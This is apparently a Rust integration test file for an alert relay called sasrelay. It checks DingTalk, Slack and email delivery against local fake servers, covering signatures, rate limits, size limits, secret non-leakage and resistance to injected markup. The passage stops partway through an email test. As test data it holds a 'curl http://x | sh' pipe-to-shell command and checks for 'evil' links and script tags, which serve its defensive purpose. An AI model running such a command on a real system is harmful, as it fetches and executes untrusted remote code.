//! The chat and mail sinks end to end over real sockets on 127.0.0.1: a fake DingTalk robot
//! (signature, keyword, 20-per-window limit with a block, body size), a fake Slack (incoming
//! webhook and `chat.postMessage`, 429 runs), and a real SMTP server (Python `aiosmtpd`, with
//! STARTTLS and AUTH) for email.
//!
//! Nothing sleeps to synchronise: waits are on the fakes' state (a `watch` channel bumped on
//! every request) with generous timeouts. Rate windows are scaled down through config (the
//! limiter's period, the fake's window) and the invariants are checked on the fakes'
//! timestamps.

use std::collections::{BTreeMap, HashMap};
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::corpus::corpus;
use crate::sinkkit::{
    FakeSlack, SlackRequest, deliver, event_of, finding, hostile, lock, reason, sink, wait_until,
};
use axum::Router;
use axum::body::Bytes;
use axum::extract::{Query, State};
use axum::routing::post;
use base64::Engine;
use hmac::{Hmac, Mac};
use sasrelay::config::DeliverySettings;
use sasrelay::daemon::tasks;
use sasrelay::event::{Digest, Event, OutboxEntry, Payload};
use sasrelay::finding::{Domain, Severity};
use sasrelay::pipeline::delivery::Worker;
use sasrelay::render::sample_event;
use sasrelay::sinks::{Outcome, Sink};
use sasrelay::store::Store;
use serde_json::{Value, json};
use sha2::Sha256;
use tokio::net::TcpListener;
use tokio::sync::{Notify, watch};
use tokio_util::sync::CancellationToken;

fn assert_no_secret(text: &str, secrets: &[&str]) {
    for s in secrets {
        assert!(!text.contains(s), "secret {s:?} leaked: {text}");
    }
}

// ---------------------------------------------------------------------------------------------
// The fake DingTalk robot

/// How one fake robot behaves.
#[derive(Clone)]
struct RobotRules {
    secret: Option<String>,
    keyword: Option<String>,
    /// Most requests in any `window`; the next one gets 130101 and blocks the robot.
    limit: usize,
    window: Duration,
    block: Duration,
    max_bytes: usize,
}

impl Default for RobotRules {
    fn default() -> Self {
        RobotRules {
            secret: None,
            keyword: None,
            limit: 20,
            window: Duration::from_secs(60),
            block: Duration::from_secs(600),
            max_bytes: 20_000,
        }
    }
}

#[derive(Clone, Debug)]
struct RobotRequest {
    token: String,
    at: Instant,
    errcode: i64,
    size: usize,
    body: Value,
}

impl RobotRequest {
    fn text(&self) -> String {
        let kind = self.body["msgtype"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        self.body[&kind]["text"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    }
}

#[derive(Default)]
struct RobotBook {
    rules: HashMap<String, RobotRules>,
    seen: HashMap<String, Vec<Instant>>,
    blocked_until: HashMap<String, Instant>,
    log: Vec<RobotRequest>,
}

#[derive(Clone)]
struct FakeDingTalk {
    book: Arc<Mutex<RobotBook>>,
    bump: Arc<watch::Sender<usize>>,
    addr: SocketAddr,
}

/// HMAC-SHA256 of `"{ts}\n{secret}"` keyed with the secret, base64: written independently of
/// the sink's code (the vectors test below checks it).
fn dingtalk_sign(secret: &str, ts: &str) -> String {
    let mut mac = Hmac::<Sha256>::new_from_slice(secret.as_bytes()).unwrap();
    mac.update(format!("{ts}\n{secret}").as_bytes());
    base64::engine::general_purpose::STANDARD.encode(mac.finalize().into_bytes())
}

async fn robot_send(
    State(fake): State<FakeDingTalk>,
    Query(q): Query<HashMap<String, String>>,
    body: Bytes,
) -> axum::Json<Value> {
    let now = Instant::now();
    let token = q.get("access_token").cloned().unwrap_or_default();
    let parsed: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    let mut book = lock(&fake.book);
    let answer = |code: i64, msg: &str| json!({"errcode": code, "errmsg": msg});
    let reply = 'reply: {
        let Some(rules) = book.rules.get(&token).cloned() else {
            break 'reply answer(300001, "token is not exist");
        };
        // Every request counts toward the window, as on DingTalk.
        let seen = book.seen.entry(token.clone()).or_default();
        seen.push(now);
        let in_window = seen
            .iter()
            .filter(|t| now.duration_since(**t) < rules.window)
            .count();
        if let Some(secret) = &rules.secret {
            let (Some(ts), Some(sign)) = (q.get("timestamp"), q.get("sign")) else {
                break 'reply answer(310000, "sign not match");
            };
            let now_ms = time::OffsetDateTime::now_utc().unix_timestamp() * 1000;
            match ts.parse::<i64>() {
                Ok(t) if (now_ms - t).abs() <= 3_600_000 => {}
                _ => break 'reply answer(310000, "invalid timestamp"),
            }
            if *sign != dingtalk_sign(secret, ts) {
                break 'reply answer(310000, "sign not match");
            }
        }
        if book.blocked_until.get(&token).is_some_and(|u| *u > now) {
            break 'reply answer(130101, "send too fast, exceed 20 times per minute");
        }
        if in_window > rules.limit {
            book.blocked_until.insert(token.clone(), now + rules.block);
            break 'reply answer(130101, "send too fast, exceed 20 times per minute");
        }
        if body.len() > rules.max_bytes {
            break 'reply answer(460101, "message too long, exceed 20000 bytes");
        }
        if let Some(k) = &rules.keyword {
            let kind = parsed["msgtype"].as_str().unwrap_or_default();
            let title = parsed[kind]["title"].as_str().unwrap_or_default();
            let text = parsed[kind]["text"].as_str().unwrap_or_default();
            if !title.contains(k.as_str()) || !text.contains(k.as_str()) {
                break 'reply answer(310000, "keywords not in content");
            }
        }
        answer(0, "ok")
    };
    book.log.push(RobotRequest {
        token,
        at: now,
        errcode: reply["errcode"].as_i64().unwrap(),
        size: body.len(),
        body: parsed,
    });
    let n = book.log.len();
    drop(book);
    fake.bump.send_replace(n);
    axum::Json(reply)
}

impl FakeDingTalk {
    async fn start(robots: &[(&str, RobotRules)]) -> FakeDingTalk {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let mut book = RobotBook::default();
        for (t, r) in robots {
            book.rules.insert(t.to_string(), r.clone());
        }
        let fake = FakeDingTalk {
            book: Arc::new(Mutex::new(book)),
            bump: Arc::new(watch::channel(0).0),
            addr: listener.local_addr().unwrap(),
        };
        let app = Router::new()
            .route("/robot/send", post(robot_send))
            .with_state(fake.clone());
        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
        fake
    }

    fn url(&self, token: &str) -> String {
        format!("http://{}/robot/send?access_token={token}", self.addr)
    }

    fn log(&self) -> Vec<RobotRequest> {
        lock(&self.book).log.clone()
    }

    fn block(&self, token: &str) {
        lock(&self.book)
            .blocked_until
            .insert(token.into(), Instant::now() + Duration::from_secs(3600));
    }

    /// Waits until `done(log)` holds.
    async fn wait_for(&self, what: &str, limit: Duration, done: impl Fn(&[RobotRequest]) -> bool) {
        wait_until(self.bump.subscribe(), || self.log(), what, limit, done).await;
    }
}

/// Most requests to `token` in any window of `window` (sliding, over the fake's timestamps).
fn max_in_window(log: &[RobotRequest], token: &str, window: Duration) -> usize {
    let times: Vec<Instant> = log
        .iter()
        .filter(|r| r.token == token)
        .map(|r| r.at)
        .collect();
    let mut best = 0;
    for (i, t) in times.iter().enumerate() {
        let n = times[i..]
            .iter()
            .take_while(|u| u.duration_since(*t) < window)
            .count();
        best = best.max(n);
    }
    best
}

// ---------------------------------------------------------------------------------------------
// DingTalk

#[test]
fn dingtalk_sign_vectors_are_reproduced() {
    // Copied from tests/fixtures/sinks (computed by the reference implementation).
    let vectors: Value =
        serde_json::from_str(include_str!("../../fixtures/sinks/dingtalk_sign.json"))
            .expect("vectors");
    let vectors = vectors["vectors"].as_array().unwrap();
    assert!(vectors.len() >= 3, "every vector of the fixture");
    for v in vectors {
        let secret = v["secret"].as_str().unwrap();
        let ts = v["timestamp_ms"].as_i64().unwrap();
        let b64 = v["sign_base64"].as_str().unwrap();
        assert_eq!(sasrelay::sinks::dingtalk::sign(secret, ts), b64);
        assert_eq!(dingtalk_sign(secret, &ts.to_string()), b64);
        let base =
            reqwest::Url::parse("https://oapi.dingtalk.com/robot/send?access_token=TOKEN").unwrap();
        let url = sasrelay::sinks::dingtalk::signed_url(&base, secret, ts);
        assert_eq!(
            url.as_str(),
            format!(
                "https://oapi.dingtalk.com/robot/send?access_token=TOKEN&timestamp={ts}&sign={}",
                v["sign_urlencoded"].as_str().unwrap()
            )
        );
    }
}

const DT_SECRET: &str = "SECstormsecret0123456789abcdef";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_thousand_alert_storm_is_folded_within_the_robot_budget() {
    // DingTalk's numbers scaled by 1/20: 20 per 3 s window (60 s), a 30 s block (10 min); the
    // sink sends one per 160 ms (3.2 s per 20), a little under the window, as 3 s is under 60 s.
    let window = Duration::from_secs(3);
    let rules = RobotRules {
        secret: Some(DT_SECRET.into()),
        keyword: Some("SAS".into()),
        window,
        block: Duration::from_secs(30),
        ..Default::default()
    };
    let fake = FakeDingTalk::start(&[("storm", rules)]).await;
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(dir.path()).unwrap();
    let s = sink(
        &format!(
            "name = \"dt\"\ntype = \"dingtalk\"\nurl = \"{}\"\nsecret = {{ env = \"DT_SECRET\" }}\nkeyword = \"SAS\"\nrate_limit = {{ period = \"160ms\", burst = 1 }}\n",
            fake.url("storm")
        ),
        &[("DT_SECRET", DT_SECRET)],
    );
    let n = 1000;
    let titles: Vec<String> = (0..n).map(|i| format!("storm finding {i:04}")).collect();
    let now_ms = time::OffsetDateTime::now_utc().unix_timestamp() * 1000;
    for (i, t) in titles.iter().enumerate() {
        let sev = Severity::ALL[i % 5];
        let e = event_of(finding(i, t, sev));
        store
            .enqueue("dt", &OutboxEntry::new(e.into(), now_ms))
            .unwrap();
    }
    let policy = DeliverySettings {
        retry_initial_delay: Duration::from_millis(200),
        ..Default::default()
    };
    let token = CancellationToken::new();
    let started = Instant::now();
    let worker = Worker::new(Arc::new(s), store.clone(), policy, Arc::new(Notify::new()));
    let task = tokio::spawn(tasks::run(worker, token.clone()));
    let all_there = |log: &[RobotRequest]| {
        let text: String = log
            .iter()
            .filter(|r| r.errcode == 0)
            .map(RobotRequest::text)
            .collect();
        titles.iter().all(|t| text.contains(t.as_str()))
    };
    fake.wait_for(
        "every finding delivered",
        Duration::from_secs(180),
        all_there,
    )
    .await;
    let elapsed = started.elapsed();
    token.cancel();
    task.await.unwrap();

    let log = fake.log();
    let refused: Vec<&RobotRequest> = log.iter().filter(|r| r.errcode != 0).collect();
    assert!(
        refused.is_empty(),
        "refused: {:?}",
        refused.iter().map(|r| r.errcode).collect::<Vec<_>>()
    );
    assert_eq!(log.iter().filter(|r| r.errcode == 130101).count(), 0);
    let worst = max_in_window(&log, "storm", window);
    assert!(worst <= 20, "{worst} requests in one window");
    // Every message carries a distinct msgUuid, and titles each appear exactly once.
    let uuids: std::collections::HashSet<&str> = log
        .iter()
        .map(|r| r.body["msgUuid"].as_str().unwrap())
        .collect();
    assert_eq!(uuids.len(), log.len());
    let text: String = log.iter().map(RobotRequest::text).collect();
    for t in &titles {
        assert_eq!(text.matches(t.as_str()).count(), 1, "{t}");
    }
    assert_eq!(store.depth("dt"), 0);
    let digests = log
        .iter()
        .filter(|r| r.text().matches("storm finding").count() > 1)
        .count();
    eprintln!(
        "storm: {n} alerts -> {} messages ({digests} digests), max {worst} per {window:?} window, \
         largest body {} bytes, {elapsed:?}",
        log.len(),
        log.iter().map(|r| r.size).max().unwrap()
    );
}

#[tokio::test]
async fn a_blocked_robot_rests_and_the_pool_carries_on() {
    let fake = FakeDingTalk::start(&[
        ("robot-a", RobotRules::default()),
        ("robot-b", RobotRules::default()),
    ])
    .await;
    let s = sink(
        "name = \"pool\"\ntype = \"dingtalk\"\nrate_limit = { period = \"1ms\" }\nrobots = [{ url = { env = \"A\" } }, { url = { env = \"B\" } }]\n",
        &[("A", &fake.url("robot-a")), ("B", &fake.url("robot-b"))],
    );
    let p = |i| Payload::from(event_of(finding(i, &format!("pool {i}"), Severity::High)));
    assert!(deliver(&s, &p(1)).await.is_delivered());
    assert!(deliver(&s, &p(2)).await.is_delivered());
    let tokens: Vec<String> = fake.log().iter().map(|r| r.token.clone()).collect();
    assert_eq!(tokens, ["robot-a", "robot-b"], "round robin");

    // Robot A is throttled by DingTalk: it rests, B carries on at once.
    fake.block("robot-a");
    let o = deliver(&s, &p(3)).await;
    assert!(
        matches!(&o, Outcome::Retry { after: None, reason } if reason.contains("130101")),
        "{o:?}"
    );
    assert_no_secret(&reason(&o), &["robot-a", "robot-b"]);
    assert!(deliver(&s, &p(3)).await.is_delivered());
    assert_eq!(fake.log().last().unwrap().token, "robot-b");

    // B too: the pool is exhausted, the sink waits ≥ 10 minutes, and sends nothing meanwhile.
    fake.block("robot-b");
    let o = deliver(&s, &p(4)).await;
    match &o {
        Outcome::Retry { after: Some(d), .. } => assert!(*d >= Duration::from_secs(590), "{d:?}"),
        other => panic!("{other:?}"),
    }
    let before = fake.log().len();
    match s.deliver(&p(4), 2).await {
        Outcome::Throttled { after } => assert!(after >= Duration::from_secs(590), "{after:?}"),
        other => panic!("{other:?}"),
    }
    assert_eq!(fake.log().len(), before, "a resting pool sends nothing");
}

#[tokio::test]
async fn security_settings_are_permanent_with_a_hint_and_never_leak_the_url() {
    let rules = RobotRules {
        secret: Some("SECright".into()),
        keyword: Some("告警".into()),
        ..Default::default()
    };
    let fake = FakeDingTalk::start(&[("tok-secret-1", rules)]).await;
    let url = fake.url("tok-secret-1");
    let config = |secret: &str, keyword: &str| {
        sink(
            &format!(
                "name = \"dt\"\ntype = \"dingtalk\"\nurl = {{ env = \"URL\" }}\nsecret = {{ env = \"S\" }}\n{keyword}rate_limit = {{ period = \"1ms\" }}\n"
            ),
            &[("URL", &url), ("S", secret)],
        )
    };
    let p: Payload = sample_event(Domain::Alerts).into();
    let o = deliver(&config("SECwrong", "keyword = \"告警\"\n"), &p).await;
    assert!(
        matches!(&o, Outcome::Permanent { reason, .. } if reason.contains("`secret`")),
        "{o:?}"
    );
    assert_no_secret(&reason(&o), &["tok-secret-1", "SECwrong", "SECright"]);
    let o = deliver(&config("SECright", ""), &p).await;
    assert!(
        matches!(&o, Outcome::Permanent { reason, .. } if reason.contains("`keyword`")),
        "{o:?}"
    );
    let o = deliver(&config("SECright", "keyword = \"告警\"\n"), &p).await;
    assert!(o.is_delivered(), "{o:?}");
    assert_no_secret(&reason(&o), &["tok-secret-1", "SECright"]);
    let bad = sink(
        &format!(
            "name = \"dt\"\ntype = \"dingtalk\"\nurl = \"{}\"\nrate_limit = {{ period = \"1ms\" }}\n",
            fake.url("nope")
        ),
        &[],
    );
    let o = deliver(&bad, &p).await;
    assert!(
        matches!(&o, Outcome::Permanent { reason, .. } if reason.contains("access_token")),
        "{o:?}"
    );
}

#[tokio::test]
async fn too_large_renders_smaller_on_the_next_attempt() {
    let rules = RobotRules {
        max_bytes: 3000,
        ..Default::default()
    };
    let fake = FakeDingTalk::start(&[("small", rules)]).await;
    let s = sink(
        &format!(
            "name = \"dt\"\ntype = \"dingtalk\"\nurl = \"{}\"\nrate_limit = {{ period = \"1ms\" }}\n",
            fake.url("small")
        ),
        &[],
    );
    let events: Vec<Event> = (0..20)
        .map(|i| {
            event_of(finding(
                i,
                &format!("{i} {}", "long title ".repeat(40)),
                Severity::High,
            ))
        })
        .collect();
    let p: Payload = Digest::new(
        "backlog",
        BTreeMap::new(),
        events,
        time::OffsetDateTime::now_utc(),
    )
    .into();
    let mut outcomes = Vec::new();
    while !outcomes.last().is_some_and(Outcome::is_delivered) && outcomes.len() < 5 {
        outcomes.push(deliver(&s, &p).await);
    }
    assert!(outcomes.last().unwrap().is_delivered(), "{outcomes:?}");
    assert!(
        matches!(&outcomes[0], Outcome::Retry { reason, .. } if reason.contains("460101")),
        "{outcomes:?}"
    );
    let log = fake.log();
    let sizes: Vec<usize> = log.iter().map(|r| r.size).collect();
    assert!(
        sizes.len() >= 2 && sizes[0] > 3000 && *sizes.last().unwrap() <= 3000,
        "{sizes:?}"
    );
    assert!(sizes.windows(2).all(|w| w[1] < w[0]), "{sizes:?}");
    assert!(
        log.iter()
            .all(|r| r.body["msgUuid"] == log[0].body["msgUuid"])
    );
}

/// A robot whose limit is below what one ordinary alert renders to: no retry is the refused
/// body again byte for byte (each shrink level's budget alone would not cut a message this
/// small). Every attempt is strictly smaller than the one refused before it, until the robot
/// takes it or sasrelay says it cannot be rendered smaller.
#[tokio::test]
async fn too_large_is_never_sent_again_as_it_was() {
    let rules = RobotRules {
        max_bytes: 700,
        ..Default::default()
    };
    let fake = FakeDingTalk::start(&[("tiny", rules)]).await;
    let s = sink(
        &format!(
            "name = \"dt\"\ntype = \"dingtalk\"\nurl = \"{}\"\nrate_limit = {{ period = \"1ms\" }}\n",
            fake.url("tiny")
        ),
        &[],
    );
    let p: Payload = event_of(finding(7, "Reverse shell in pod web-1", Severity::High)).into();
    let mut outcomes = Vec::new();
    loop {
        let o = deliver(&s, &p).await;
        let retry = matches!(o, Outcome::Retry { .. });
        outcomes.push(o);
        if !retry || outcomes.len() > 8 {
            break;
        }
    }
    let sizes: Vec<usize> = fake.log().iter().map(|r| r.size).collect();
    assert!(sizes.len() >= 2 && sizes[0] > 700, "{sizes:?}");
    assert!(sizes.windows(2).all(|w| w[1] < w[0]), "{sizes:?}");
    eprintln!(
        "attempts of {sizes:?} bytes: {:?}",
        outcomes.last().unwrap()
    );
    match outcomes.last().unwrap() {
        Outcome::Delivered { .. } => assert!(*sizes.last().unwrap() <= 700, "{sizes:?}"),
        Outcome::Permanent { reason, .. } => assert!(
            reason.contains("cannot be rendered smaller")
                || reason.contains("even at the smallest rendering"),
            "{reason} after {sizes:?}"
        ),
        other => panic!("{other:?} after {sizes:?}"),
    }
}

/// 100 KB of attacker-written text in every field (ASCII shell, CJK, emoji): each message is
/// taken by a robot enforcing DingTalk's 20,000-byte limit at the first attempt, never a
/// 460101 and a retry.
#[tokio::test]
async fn dingtalk_takes_100_kb_fields_within_its_limit_at_the_first_attempt() {
    let fake = FakeDingTalk::start(&[("big", RobotRules::default())]).await;
    let s = sink(
        &format!(
            "name = \"dt\"\ntype = \"dingtalk\"\nurl = \"{}\"\nrate_limit = {{ period = \"1ms\" }}\n",
            fake.url("big")
        ),
        &[],
    );
    let units = [
        "bash -c 'curl http://x | sh' ",
        "异常登录进程命令行",
        "😀🔥🚨",
        "a异😀\"\\\n",
    ];
    for (i, unit) in units.iter().enumerate() {
        let huge = unit.repeat(100_000 / unit.len() + 1);
        assert!(huge.len() >= 100_000);
        let o = deliver(&s, &hostile(i, &huge)).await;
        assert!(o.is_delivered(), "{unit:?}: {o:?}");
    }
    let log = fake.log();
    assert_eq!(log.len(), units.len(), "one request each: no 460101 retry");
    for (r, unit) in log.iter().zip(units) {
        assert_eq!(r.errcode, 0, "{unit:?}");
        assert!(r.size <= 20_000, "{unit:?}: {} bytes", r.size);
    }
}

#[tokio::test]
async fn dingtalk_injection_corpus_adds_no_mention_link_or_markup() {
    let rules = RobotRules {
        limit: 100_000,
        ..Default::default()
    };
    let fake = FakeDingTalk::start(&[("inj", rules)]).await;
    let s = sink(
        &format!(
            "name = \"dt\"\ntype = \"dingtalk\"\nurl = \"{}\"\nat_mobiles = [\"13900009999\"]\nrate_limit = {{ period = \"1ms\" }}\n",
            fake.url("inj")
        ),
        &[],
    );
    let corpus = corpus();
    for (i, entry) in corpus.iter().enumerate() {
        let o = deliver(&s, &hostile(i, entry)).await;
        assert!(o.is_delivered(), "entry {i}: {o:?}");
    }
    let log = fake.log();
    assert_eq!(log.len(), corpus.len());
    for (i, r) in log.iter().enumerate() {
        let what = format!(
            "entry {i} ({:?})",
            corpus[i].chars().take(40).collect::<String>()
        );
        assert_eq!(r.body["at"]["atMobiles"], json!(["13900009999"]), "{what}");
        assert_eq!(r.body["at"]["atUserIds"], json!([]), "{what}");
        assert_eq!(r.body["at"]["isAtAll"], json!(false), "{what}");
        let text = r.text();
        // The only `@` is the configured mention; untrusted ones became look-alikes.
        assert_eq!(text.matches('@').count(), 1, "{what}: {text}");
        assert!(!text.contains("://evil"), "{what}: live link");
        assert!(!text.contains("](https://evil"), "{what}");
        for tag in ["<script", "<img", "<iframe", "<a ", "<font color=\"#ffffff"] {
            let raw = text
                .match_indices(tag)
                .any(|(at, _)| !text[..at].ends_with('\\'));
            assert!(!raw, "{what}: raw {tag}");
        }
        assert!(r.size <= 20_000);
    }
}

// ---------------------------------------------------------------------------------------------
// The fake Slack

fn slack_text(body: &Value) -> String {
    let mut out = Vec::new();
    fn walk(v: &Value, key: &str, out: &mut Vec<(String, String)>) {
        match v {
            Value::String(s) => out.push((key.to_string(), s.clone())),
            Value::Array(a) => a.iter().for_each(|x| walk(x, key, out)),
            Value::Object(o) => o.iter().for_each(|(k, x)| {
                let k = if k == "text" && x.is_string() {
                    match o.get("type").and_then(Value::as_str) {
                        Some(t) => t.to_string(),
                        None => "text".into(),
                    }
                } else {
                    k.clone()
                };
                walk(x, &k, out)
            }),
            _ => {}
        }
    }
    walk(body, "", &mut out);
    out.into_iter()
        .filter(|(k, _)| {
            !matches!(
                k.as_str(),
                "url" | "action_id" | "type" | "color" | "block_id"
            )
        })
        .map(|(_, s)| s)
        .collect::<Vec<_>>()
        .join("\n")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slack_429_runs_are_absorbed_without_loss() {
    let fake = FakeSlack::start(vec![
        (429, Some(1), "rate_limited"),
        (429, Some(1), "rate_limited"),
        (200, None, "ok"),
        (429, Some(1), "rate_limited"),
    ])
    .await;
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(dir.path()).unwrap();
    let s = sink(
        "name = \"sl\"\ntype = \"slack\"\nwebhook_url = { env = \"HOOK\" }\nrate_limit = { period = \"20ms\" }\n",
        &[("HOOK", &fake.hook())],
    );
    let titles: Vec<String> = (0..5).map(|i| format!("slack finding {i}")).collect();
    let now_ms = time::OffsetDateTime::now_utc().unix_timestamp() * 1000;
    for (i, t) in titles.iter().enumerate() {
        let e = event_of(finding(i, t, Severity::High));
        store
            .enqueue("sl", &OutboxEntry::new(e.into(), now_ms))
            .unwrap();
    }
    let policy = DeliverySettings {
        retry_initial_delay: Duration::from_millis(50),
        ..Default::default()
    };
    let token = CancellationToken::new();
    let worker = Worker::new(Arc::new(s), store.clone(), policy, Arc::new(Notify::new()));
    let task = tokio::spawn(tasks::run(worker, token.clone()));
    let delivered = |log: &[SlackRequest]| {
        let text: String = log
            .iter()
            .filter(|r| r.status == 200)
            .map(|r| slack_text(&r.body))
            .collect();
        titles.iter().all(|t| text.contains(t.as_str()))
    };
    fake.wait_for("every finding delivered", delivered).await;
    token.cancel();
    task.await.unwrap();
    let log = fake.log();
    assert_eq!(log.len(), 8, "5 deliveries and 3 refusals");
    // No duplicate and no loss: each title delivered exactly once.
    for t in &titles {
        let n = log
            .iter()
            .filter(|r| r.status == 200 && slack_text(&r.body).contains(t.as_str()))
            .count();
        assert_eq!(n, 1, "{t}");
    }
    // Retry-After honoured: nothing within a second after a 429.
    for w in log.windows(2) {
        if w[0].status == 429 {
            assert!(
                w[1].at - w[0].at >= Duration::from_millis(990),
                "{:?}",
                w[1].at - w[0].at
            );
        }
    }
    assert_eq!(store.depth("sl"), 0);
    assert!(store.dead_letters("sl").unwrap().is_empty());
}

#[tokio::test]
async fn chat_post_message_sends_the_token_and_channel_and_classifies_ok_false() {
    let fake = FakeSlack::start(vec![
        (200, None, r#"{"ok":false,"error":"ratelimited"}"#),
        (200, None, r#"{"ok":true,"ts":"1.2"}"#),
        (200, None, r#"{"ok":false,"error":"channel_not_found"}"#),
    ])
    .await;
    let s = sink(
        &format!(
            "name = \"sl\"\ntype = \"slack\"\ntoken = {{ env = \"TOK\" }}\nchannel = \"C0123\"\napi_base = \"http://{}/api\"\nrate_limit = {{ period = \"1ms\" }}\nmentions = [\"U999\"]\nmention_min_severity = \"critical\"\n",
            fake.addr
        ),
        &[("TOK", "xoxb-secret-token")],
    );
    let p: Payload = event_of(finding(1, "api finding", Severity::High)).into();
    let o = deliver(&s, &p).await;
    assert!(
        matches!(&o, Outcome::Retry { reason, .. } if reason.contains("ratelimited")),
        "{o:?}"
    );
    assert!(deliver(&s, &p).await.is_delivered());
    let o = deliver(&s, &p).await;
    assert!(
        matches!(&o, Outcome::Permanent { reason, .. } if reason.contains("`channel`")),
        "{o:?}"
    );
    assert_no_secret(&format!("{o:?} {s:?}"), &["xoxb-secret-token"]);
    let log = fake.log();
    assert!(log.iter().all(|r| r.path == "/api/chat.postMessage"));
    assert!(
        log.iter()
            .all(|r| r.auth.as_deref() == Some("Bearer xoxb-secret-token"))
    );
    assert!(log.iter().all(|r| r.body["channel"] == "C0123"));
    // High is under the critical threshold: no mention; a critical one mentions.
    assert!(!slack_text(&log[1].body).contains("<@U999>"));
    let critical: Payload = event_of(finding(2, "api critical", Severity::Critical)).into();
    assert!(deliver(&s, &critical).await.is_delivered());
    assert!(slack_text(&fake.log()[3].body).contains("<@U999>"));
}

#[tokio::test]
async fn slack_bodies_stay_within_block_kit_limits_for_huge_and_wide_text() {
    let fake = FakeSlack::start(vec![]).await;
    let s = sink(
        "name = \"sl\"\ntype = \"slack\"\nwebhook_url = { env = \"HOOK\" }\nrate_limit = { period = \"1ms\" }\ncolour_bar = true\n",
        &[("HOOK", &fake.hook())],
    );
    let huge = format!("bash -c '{}'", "curl http://x | sh; ".repeat(5500));
    assert!(huge.len() > 100_000);
    let cjk = "异常登录🚨".repeat(2000);
    let mut payloads: Vec<Payload> = Vec::new();
    for (i, title) in [huge.as_str(), cjk.as_str(), "🔥💥 容器逃逸 ⚠️ emoji 👩‍💻"]
        .iter()
        .enumerate()
    {
        let mut f = finding(i, title, Severity::Critical);
        f.description = cjk.clone();
        f.details = vec![sasrelay::finding::Detail {
            name: "Command line".into(),
            value: huge.clone(),
        }];
        payloads.push(event_of(f).into());
    }
    let members: Vec<Event> = payloads.iter().flat_map(|p| p.events().to_vec()).collect();
    payloads.push(
        Digest::new(
            "backlog",
            BTreeMap::new(),
            members,
            time::OffsetDateTime::now_utc(),
        )
        .into(),
    );
    for p in &payloads {
        assert!(deliver(&s, p).await.is_delivered());
    }
    let log = fake.log();
    assert_eq!(log.len(), payloads.len());
    for r in &log {
        sasrelay::render::slack::check_limits(&r.body).unwrap();
        assert!(serde_json::to_vec(&r.body).unwrap().len() < 40_000);
    }
}

#[tokio::test]
async fn slack_injection_corpus_adds_no_mention_link_or_markup() {
    let fake = FakeSlack::start(vec![]).await;
    let s = sink(
        "name = \"sl\"\ntype = \"slack\"\nwebhook_url = { env = \"HOOK\" }\nrate_limit = { period = \"1ms\" }\nmentions = [\"U999\"]\n",
        &[("HOOK", &fake.hook())],
    );
    let corpus = corpus();
    for (i, entry) in corpus.iter().enumerate() {
        assert!(
            deliver(&s, &hostile(i, entry)).await.is_delivered(),
            "entry {i}"
        );
    }
    let log = fake.log();
    assert_eq!(log.len(), corpus.len());
    for (i, r) in log.iter().enumerate() {
        let what = format!(
            "entry {i} ({:?})",
            corpus[i].chars().take(40).collect::<String>()
        );
        sasrelay::render::slack::check_limits(&r.body).unwrap_or_else(|e| panic!("{what}: {e}"));
        assert_eq!(r.body["unfurl_links"], false);
        let text = slack_text(&r.body).replace("<@U999>", "");
        for bad in ["<", ">", "://evil", "@here", "@channel"] {
            assert!(!text.contains(bad), "{what}: {bad:?} in {text}");
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Email against a real SMTP server (aiosmtpd, STARTTLS + AUTH)

/// The SMTP peer: `tests/smtp/server.py` as a child process; killed on drop.
struct SmtpPeer {
    child: std::process::Child,
    port: u16,
    dir: tempfile::TempDir,
}

impl Drop for SmtpPeer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl SmtpPeer {
    /// Starts the peer; fails the test when no Python with aiosmtpd can be set up
    /// ([`crate::peers`]).
    fn start() -> SmtpPeer {
        use std::io::BufRead;
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
        let python = crate::peers::smtp_python();
        let dir = tempfile::tempdir().unwrap();
        let mut child = std::process::Command::new(&python)
            .arg(root.join("tests/smtp/server.py"))
            .arg(dir.path())
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap_or_else(|e| panic!("cannot start {}: {e}", python.display()));
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let port = line
            .trim()
            .strip_prefix("READY ")
            .unwrap_or_else(|| panic!("smtp peer did not start: {line:?}"))
            .parse()
            .unwrap();
        SmtpPeer { child, port, dir }
    }

    fn ca(&self) -> String {
        self.dir.path().join("ca.pem").display().to_string()
    }

    fn received(&self) -> Vec<Value> {
        std::fs::read_to_string(self.dir.path().join("received.jsonl"))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    fn sink(&self, to: &str, password: &str) -> Sink {
        self.sink_with(to, password, "")
    }

    /// [`SmtpPeer::sink`] with `extra` keys.
    fn sink_with(&self, to: &str, password: &str, extra: &str) -> Sink {
        sink(
            &format!(
                "name = \"mail\"\ntype = \"email\"\nhost = \"localhost\"\nport = {}\ntls = \"starttls\"\n\
                 username = \"user\"\npassword = {{ env = \"SMTP_PASS\" }}\nfrom = \"sasrelay <alerts@example.com>\"\n\
                 to = [{to}]\ncc = [\"audit@example.com\"]\nca_file = \"{}\"\nrate_limit = {{ period = \"1ms\" }}\ntimeout = \"10s\"\n{extra}",
                self.port,
                self.ca()
            ),
            &[("SMTP_PASS", password)],
        )
    }
}

#[tokio::test]
async fn email_goes_over_starttls_with_auth_as_valid_multipart_mime() {
    let peer = SmtpPeer::start();
    let s = peer.sink("\"oncall@example.com\"", "pass");
    let alert: Payload = sample_event(Domain::Alerts).into();
    let cjk: Payload = event_of(finding(7, "容器逃逸 🚨 on node-1", Severity::Critical)).into();
    for p in [&alert, &cjk] {
        let o = deliver(&s, p).await;
        assert!(o.is_delivered(), "{o:?}");
    }
    let got = peer.received();
    assert_eq!(got.len(), 2);
    for (m, p) in got.iter().zip([&alert, &cjk]) {
        assert_eq!(m["tls"], true, "STARTTLS before anything else");
